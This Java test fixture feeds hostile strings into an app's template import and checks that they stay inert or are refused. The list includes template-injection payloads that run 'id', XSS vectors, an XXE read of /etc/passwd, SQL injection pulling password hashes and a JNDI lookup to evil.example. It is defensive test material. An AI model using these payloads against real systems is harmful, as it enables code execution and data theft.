package gentlelanding.practice;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

/** What somebody may write who means harm. */
public class HostileWords {

    /** Words that would do something elsewhere; here they are words. */
    public static final List<String> INERT = List.of(
            "__${7*7}__::.x",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__",
            "[[${7*7}]]",
            "[(${7*7})]",
            "${T(java.lang.Runtime)}",
            "*{7*7}",
            "#{practice.desk.title}",
            "@{/exit}",
            "~{ui/layout :: page}",
            "|${7*7}|",
            "{0,choice,0#a|1#b}",
            "{0}",
            "'{0}'",
            "%{7*7}",
            "#set($x=7*7)$x",
            "<%= 7*7 %>",
            "{{7*7}}",
            "{{constructor.constructor('return 1')()}}",
            "<script>window.__xss=1</script>",
            "<svg onload=window.__xss=1>",
            "<img src=x onerror=window.__xss=1>",
            "<style>*{display:none}</style>",
            "</p></main><iframe src=//evil.example>",
            "</textarea><script>1</script>",
            "\"><script>1</script>",
            "' onmouseover='1",
            "<a href=javascript:alert(1)>x</a>",
            "<!--#exec cmd=\"id\" -->",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "&lt;script&gt;",
            "&#60;script&#62;",
            "![x](https://evil.example/p.png)",
            "[x](javascript:alert(1))",
            "https://evil.example/",
            "=HYPERLINK(\"https://evil.example\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "'; drop table account; --",
            "\" or 1=1 --",
            "../../../../etc/passwd",
            "new java.util.Date()",
            "new\tjava.lang.ProcessBuilder('id').start()".replace('\t', ' '),
            "${#ctx.getVariables()}",
            "${@environment.getProperty('landing.key-file')}",
            "${session}",
            "${T (java.lang.Runtime)}",
            "${new java.util.Scanner(T(java.lang.Runtime))}",
            "__${new java.util.Date()}__",
            "~{::main}",
            "~{file:///etc/passwd}",
            "th:text=${7*7}",
            "<p th:utext=\"${7*7}\">",
            "<th:block th:text=\"${7*7}\"/>",
            "[[${T(java.lang.System).getenv()}]]",
            "\\u0024{7*7}",
            "#{7*7}",
            "#{plan.title(${7*7})}",
            "{0,number,#}{1,date}",
            "{n, plural, other {#}}",
            "{{{7*7}}}",
            "{%if 1%}x{%endif%}",
            "{% import os %}",
            "${{7*7}}",
            "@(7*7)",
            "<#assign x=7*7>${x}",
            "${jndi:ldap://evil.example/a}",
            "%s%s%n%x",
            "%0d%0aSet-Cookie: a=b",
            "<body onload=window.__xss=1>",
            "<details open ontoggle=window.__xss=1>",
            "<video><source onerror=window.__xss=1>",
            "<math><mtext></mtext><script>1</script>",
            "<noscript><p title=\"</noscript><img src=x>\">",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0>",
            "<form action=//evil.example><button>",
            "<input autofocus onfocus=window.__xss=1>",
            "<link rel=stylesheet href=//evil.example>",
            "<template><script>1</script></template>",
            "</title><script>1</script>",
            "javascript:window.__xss=1",
            "JaVaScRiPt:alert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox(1)",
            "&#x6a;avascript:alert(1)",
            "\\x3cscript\\x3e",
            "%3Cscript%3E",
            "+ADw-script+AD4-",
            "`${7*7}`",
            "$(id)",
            "| id",
            "-1' union select password_hash from account --",
            "*)(uid=*))(|(uid=*",
            "{\"$ne\": null}",
            "<xsl:value-of select=\"7*7\"/>",
            "(a+)+$",
            "/(?:a|a)*b/",
            "\u0627\u0644\u0633\u0644\u0627\u0645",
            "\u1e9e\u00df\ufb01");

    /** Files that are no templates, whatever they look like. */
    static List<String> refused() {
        var refused = new ArrayList<String>(List.of(
                "",
                "null",
                "[]",
                "{}",
                "{\"title\": \"x\"",
                template("") + "{}",
                template("\"share\": true"),
                template("\"html\": \"<b>x</b>\""),
                template("\"expression\": \"1+1\""),
                template("\"password\": \"x\""),
                template("\"title\": \"twice\""),
                template("\"prompts\": [{\"phase\": \"SOON\", \"words\": \"x\"}]"),
                template("\"prompts\": [{\"phase\": \"NEXT_DAY\", \"words\": \"x\", \"regex\": \".*\"}]"),
                template("\"prompts\": [{\"phase\": \"NEXT_DAY\", \"words\": \"a\\nb\"}]"),
                template("\"author\": \"a\\u202Eb\""),
                template("\"author\": \"a\\u200Bb\""),
                template("\"author\": \"a\\u2066b\""),
                template("\"author\": \"a\\u0000b\""),
                template("\"author\": \"a\\ud800b\""),
                template("\"author\": \"" + "x".repeat(201) + "\""),
                template("\"author\": 7"),
                template("\"introduction\": \"" + "x".repeat(3_001) + "\""),
                template("\"introduction\": " + "[".repeat(1_000) + "]".repeat(1_000)),
                template("\"introduction\": \"x\"").replace("\"en\"", "\"<script>\""),
                template("").replace("gentle-landing/template/1", "gentle-landing/template/2"),
                template("").replace("\"water\"", "\"nowhere\""),
                template("").replace("{\"item\": \"water\"}", "{\"item\": \"water\"}, {\"item\": \"water\"}"),
                template("")
                        .replace(
                                "\"item\": \"water\"", "\"item\": \"water\", \"name\": \"x\", \"category\": \"SPACE\""),
                template("").replace("\"item\": \"water\"", "\"name\": \"x\""),
                template("")
                        .replace("\"item\": \"water\"", "\"name\": \"x\", \"category\": \"SPACE\", \"key\": \"own-1\""),
                template("")
                        .replace(
                                "\"item\": \"water\"", "\"name\": \"x\", \"category\": \"SPACE\", \"stance\": \"ANY\""),
                template("")
                        .replace(
                                "\"item\": \"water\"",
                                "\"name\": \"x\", \"category\": \"SPACE\", \"alternatives\": [\"own-1\"]"),
                template("").replace("\"items\": [", "\"items\": [" + "{\"item\": \"water\"},".repeat(500)),
                template("\"shared\": [\"water\"]"),
                template("\"preset\": {\"water\": \"ESSENTIAL\"}"),
                template("\"answers\": {\"water\": {\"need\": \"ESSENTIAL\"}}"),
                template("\"image\": \"https://example.org/x.png\""),
                template("\"script\": \"1\""),
                template("\"css\": \"x\""),
                template("\"$schema\": \"https://example.org/\""),
                template("\"__proto__\": {}"),
                template("\"@class\": \"java.lang.Runtime\""),
                template("\"introduction\": {\"@type\": \"java.lang.Runtime\"}"),
                template("\"author\": null"),
                template("\"author\": [\"x\"]"),
                template("\"author\": true"),
                template("\"author\": 1e999"),
                template("\"author\": NaN"),
                template("\"author\": 'x'"),
                template("\"author\": \"x\" /* said */"),
                template("\"author\": \"a\\u200Db\""),
                template("\"author\": \"a\\u200Eb\""),
                template("\"author\": \"a\\u2028b\""),
                template("\"author\": \"a\\uFEFFb\""),
                template("\"author\": \"a\\u00ADb\""),
                template("\"author\": \"a\\u0007b\""),
                template("\"author\": \"a\\nb\""),
                template("\"author\": \"a\\uE000b\""),
                template("\"author\": \"a\\uDB40\\uDC41b\""),
                template("\"prompts\": [{\"phase\": \"NEXT_DAY\", \"words\": \"x\", \"type\": \"password\"}]"),
                template("\"prompts\": {\"NEXT_DAY\": \"x\"}"),
                template("").replace("\"item\": \"water\"", "\"item\": \"water\", \"share\": true"),
                template("").replace("\"item\": \"water\"", "\"item\": \"water\", \"need\": \"ESSENTIAL\""),
                template("").replace("\"item\": \"water\"", "\"item\": [\"water\"]"),
                template("").replace("\"item\": \"water\"", "\"item\": \"__${7*7}__\""),
                template("").replace("\"en\"", "\"en-${7*7}\""),
                "<template/>",
                "--- {title: x}",
                "x".repeat(10 * 1024 * 1024)));
        for (var address : List.of(
                "http://example.org/",
                "javascript:alert(1)",
                "data:text/html,x",
                "https://",
                "https://a b.example/",
                "https://user:pass@example.org/",
                "https://example.org:444/",
                "https://xn--80ak6aa92e.com/",
                "https://127.0.0.1/",
                "https://[::1]/",
                "HTTPS://example.org/",
                "//example.org/",
                "/templates",
                "https:/example.org/",
                "https://example.org/ x",
                "https://example.org\\\\@evil.example/",
                "https://[fe80::1]/",
                "https://192.168.0.1/",
                "https://localhost/",
                "https://example.org/\\u0000",
                "https://ex\\u200Bample.org/",
                "blob:https://example.org/x",
                "ftp://example.org/",
                "https://example.org/\\u202E")) {
            refused.add(template("\"resources\": [{\"title\": \"x\", \"address\": \"" + address + "\"}]"));
        }
        return refused;
    }

    static String template(String more) {
        return "{\"format\": \"gentle-landing/template/1\", \"title\": \"Coming home\", \"language\": \"en\","
                + " \"items\": [{\"item\": \"water\"}]" + (more.isEmpty() ? "" : ", " + more) + "}";
    }

    static String quoted(String text) {
        return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + '"';
    }

    /** A template that says all of them wherever words may stand: each is the name and the meaning of an own item. */
    public static String file() {
        var items = INERT.stream()
                .map(words -> "{\"name\": " + quoted(shown(words)) + ", \"meaning\": " + quoted(words)
                        + ", \"category\": \"SPACE\", \"selfCare\": " + quoted(words) + "}")
                .collect(Collectors.joining(", "));
        return template("\"introduction\": " + quoted(String.join("\n", INERT.subList(0, INERT.size() / 2)))
                        + ", \"author\": " + quoted(INERT.get(0))
                        + ", \"prompts\": [{\"phase\": \"NEXT_DAY\", \"words\": " + quoted("[[${7*7}]]") + "}]"
                        + ", \"resources\": [{\"title\": " + quoted("<img src=x onerror=alert(1)>")
                        + ", \"address\": \"https://example.org/?q=7*7\"}]")
                .replace("\"Coming home\"", quoted("<svg onload=alert(1)>"))
                .replace("{\"item\": \"water\"}", items);
    }

    private static String shown(String words) {
        return words.substring(0, Math.min(words.length(), 60));
    }

    private HostileWords() {}
}
